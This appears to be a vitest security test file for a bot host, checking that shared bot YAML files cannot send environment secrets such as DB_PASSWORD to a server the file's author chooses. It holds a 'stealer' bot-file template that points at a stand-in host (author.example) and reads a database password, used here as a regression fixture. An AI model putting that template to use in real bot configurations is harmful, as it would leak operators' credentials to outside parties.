import { spawnSync } from 'node:child_process';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { writeFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { createRegistry, loadBot } from '../../src/runtime/index.js';
import { tempDir } from '../helpers/api.js';
import { botWorld, type BotWorld } from '../helpers/bots.js';
import { eventually } from '../helpers/serve-child.js';

// Issue 21 item 5: a shared bot file with `server: http://<author>` and `key: "${env:DB_PASSWORD}"`
// made the bot host send the password as X-API-Key to the author at start-up.
const SECRET = 'hunter2-database-password';

/** The author's server: records every API key it is sent. Internal. */
async function collector(): Promise<{ url: string; keys: string[]; close(): Promise<void> }> {
  const keys: string[] = [];
  const server: Server = createServer((req: IncomingMessage, res) => {
    const key = req.headers['x-api-key'];
    if (typeof key === 'string') keys.push(key);
    res
      .writeHead(200, { 'content-type': 'application/json' })
      .end(JSON.stringify({ id: 'u', pin_code: 'AAA111', display_name: 'x', messages: [], transfers: [] }));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    keys,
    close: () => new Promise((r) => (server.closeAllConnections(), server.close(() => r()))),
  };
}

const stealer = (server: string, key: string) =>
  `name: helpful\nserver: ${server}\nkey: "${key}"\nrules:\n  - on: message.received\n    do:\n      - reply: hi\n`;

let w: BotWorld | undefined;
let author: Awaited<ReturnType<typeof collector>> | undefined;
let cleanup: (() => void) | undefined;
afterEach(async () => {
  await w?.close();
  await author?.close();
  cleanup?.();
  w = author = cleanup = undefined;
});

describe('a bot file cannot send an environment variable to a host of its choosing', () => {
  it(
    'the host refuses the file (key outside PINBOT_KEY_…, server not allowed): the ' + 'author receives nothing',
    async () => {
      author = await collector();
      w = await botWorld({
        host: { env: { DB_PASSWORD: SECRET, PINBOT_KEY_HELPFUL: 'pinbot_k' } },
        bots: { 'helpful.yaml': stealer(author.url, '${env:DB_PASSWORD}') },
      });
      const [status] = await w.host.start();
      expect(status).toMatchObject({ status: 'invalid' });
      expect(status!.problems!.join('\n')).toContain('helpful.yaml:3:7: key: ${env:DB_PASSWORD} is not allowed in key');
      // even a key meant for bots does not go to a server the operator has not listed
      w.writeBot('helpful.yaml', stealer(author.url, '${env:PINBOT_KEY_HELPFUL}'));
      const [again] = await w.host.reload();
      expect(again).toMatchObject({
        status: 'invalid',
        problems: [
          expect.stringContaining(`helpful.yaml:2:9: server: ${author.url} is not a server the operator allows`),
        ],
      });
      expect(author.keys).toEqual([]);
    },
  );

  it(
    'the operator can allow a server (bots.allowed_servers) and then the bot reaches it ' + 'with its PINBOT_KEY_… key',
    async () => {
      author = await collector();
      w = await botWorld({
        host: { env: { DB_PASSWORD: SECRET, PINBOT_KEY_HELPFUL: 'pinbot_k' }, allowedServers: [author.url] },
        bots: { 'helpful.yaml': stealer(author.url, '${env:PINBOT_KEY_HELPFUL}') },
      });
      const [status] = await w.host.start();
      expect(status!.problems ?? []).toEqual([]);
      await eventually(() => author!.keys.length > 0);
      expect(new Set(author.keys)).toEqual(new Set(['pinbot_k']));
    },
  );

  it('`pinbot bots validate` reports both with file:line:col and what to do; config.yaml lifts each', () => {
    const tmp = tempDir('pinbot-env-');
    cleanup = tmp.cleanup;
    const dir = tmp.dir;
    const bot = join(dir, 'helpful.yaml');
    writeFileSync(bot, stealer('http://author.example:8080', '${env:DB_PASSWORD}'));
    const config = join(dir, 'config.yaml');
    const validate = () =>
      spawnSync(process.execPath, ['bin/pinbot.js', 'bots', 'validate', '--config', config, bot], {
        encoding: 'utf8',
        env: { ...process.env, DB_PASSWORD: SECRET },
      });
    writeFileSync(config, 'bots: {}\n');
    let r = validate();
    expect(r.status).toBe(1);
    expect(r.stdout).toContain(
      `${bot}:3:7: key: \${env:DB_PASSWORD} is not allowed in key: bot files read ` +
        `only variables named PINBOT_KEY_… there, so a shared file cannot send another ` +
        `secret to a server — name the variable PINBOT_KEY_… (e.g. ` +
        `\${env:PINBOT_KEY_TIP_JAR}); if DB_PASSWORD is meant for bots, list it in ` +
        `config.yaml under bots: { env_allow: [DB_PASSWORD] }`,
    );
    expect(r.stdout).not.toContain(SECRET);
    writeFileSync(config, 'bots:\n  env_allow: [DB_PASSWORD]\n');
    r = validate();
    expect(r.status).toBe(1);
    expect(r.stdout).toContain(
      `${bot}:2:9: server: http://author.example:8080 is not a server the operator allows: a bot file may name only embedded or a server listed in config.yaml (bots.allowed_servers), since its key is sent there — if http://author.example:8080 is yours, add it to config.yaml under bots: { allowed_servers: ["http://author.example:8080"] }; or run the bot with pinbot bots run --server URL`,
    );
    writeFileSync(config, 'bots:\n  env_allow: [DB_PASSWORD]\n  allowed_servers: ["http://author.example:8080"]\n');
    r = validate();
    expect(r.stdout).toContain(`ok  ${bot} (helpful)`);
    expect(r.status).toBe(0);
  });
});

describe('${env:…} hidden elsewhere in a bot file (review of issue 21 item 5)', () => {
  it(
    'a reference outside key: and server: — a reply, a nested key:, a map deep in a ' +
      'step, a second reference beside an allowed one — is refused, never read',
    () => {
      const env = { DB_PASSWORD: SECRET, PINBOT_KEY_X: 'pinbot_k' };
      const bodies = [
        'key: "${env:PINBOT_KEY_X}"\nrules:\n  - on: message.received\n    do:\n      - reply: "${env:DB_PASSWORD}"\n',
        'key: "${env:PINBOT_KEY_X}"\nrules:\n  - on: message.received\n    do:\n      - ' +
          'send_message: { to: AAAAAA, content: "x", key: "${env:DB_PASSWORD}" }\n',
        'key: "${env:PINBOT_KEY_X}${env:DB_PASSWORD}"\nrules: []\n',
        'key: "${env:PINBOT_KEY_X}"\nserver: "${env:PINBOT_SERVER_URL}${env:DB_PASSWORD}"\nrules: []\n',
      ];
      for (const body of bodies) {
        const r = loadBot('b.yaml', `name: b\n${body}`, { registry: createRegistry(), env });
        expect(r.bot, body).toBeUndefined();
        expect(r.problems.map((p) => p.message).join('\n'), body).toContain('${env:DB_PASSWORD} is not allowed');
        expect(JSON.stringify(r), body).not.toContain(SECRET);
      }
    },
  );
});

describe('a value read from the environment is never quoted in a problem (review)', () => {
  it('a server: URL with a password that is not valid names ${env:PINBOT_SERVER_URL}, not the URL', () => {
    for (const url of [
      'ftp://deploy:pa55word-xyz@api.example/',
      'api.example with pa55word-xyz',
      'https//deploy:pa55word-xyz@api.example',
    ]) {
      const r = loadBot(
        'b.yaml',
        'name: b\nkey: "${env:PINBOT_KEY_X}"\nserver: ' +
          '"${env:PINBOT_SERVER_URL}"\nrules:\n  - on: message.received\n    do: [{ ' +
          'reply: hi }]\n',
        { registry: createRegistry(), env: { PINBOT_KEY_X: 'pinbot_k', PINBOT_SERVER_URL: url } },
      );
      expect(r.bot, url).toBeUndefined();
      const text = JSON.stringify([r.problems, r.warnings]);
      expect(text, url).not.toContain('pa55word');
      expect(text, url).toContain('${env:PINBOT_SERVER_URL}');
    }
  });
});
